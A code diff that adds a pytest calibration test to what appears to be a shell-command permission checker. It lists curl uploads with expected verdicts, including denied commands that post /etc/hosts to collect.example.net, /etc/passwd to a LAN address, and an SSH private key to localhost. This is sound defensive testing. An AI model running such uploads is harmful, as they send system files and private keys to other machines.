@@ -175,3 +175,25 @@ def test_code_requests_judged_as_curl(command: str, want: str) -> None:
         assert got != ALLOW, rules
     else:
         assert got == want, (got, rules)
+
+
+# A file from outside the project that is not a secret, posted to a service on this machine: allowed, on purpose.
+# Nothing leaves the machine; a world-readable system file (/etc/passwd, /etc/hosts, /proc/cmdline) gives a local
+# process nothing it could not read itself; posting a sample from ~/Downloads to the dev server's upload endpoint is
+# ordinary testing. The public dev sessions hold no upload of an outside file to loopback, so an ask would be friction
+# with no evidence; the RedCode cases labelled ask (upload-system-file) mostly post through a function's parameters.
+# What must still be stopped: a secret file (creds.read-secret-file), the same file to another machine
+# (net.upload-untrusted), and a tunnel that makes the local port public (net.tunnel), judged where it is started.
+LOOPBACK_UPLOADS: list[tuple[str, str]] = [
+    ("curl -X POST --data-binary @/etc/passwd http://127.0.0.1:5758/submit", ALLOW),
+    ("curl -F file=@/home/ana/Downloads/sample.pdf http://localhost:8000/upload", ALLOW),
+    ("curl -F f=@/etc/hosts https://collect.example.net/up", DENY),
+    ("curl -X POST --data-binary @/etc/passwd http://192.168.1.20:5758/submit", DENY),
+    ("curl -d @/home/ana/.ssh/id_ed25519 http://localhost:8080/x", DENY),
+]
+
+
+@pytest.mark.parametrize(("command", "want"), LOOPBACK_UPLOADS)
+def test_outside_file_to_loopback_calibration(command: str, want: str) -> None:
+    got, rules = verdict(command)
+    assert got == want, (got, rules)
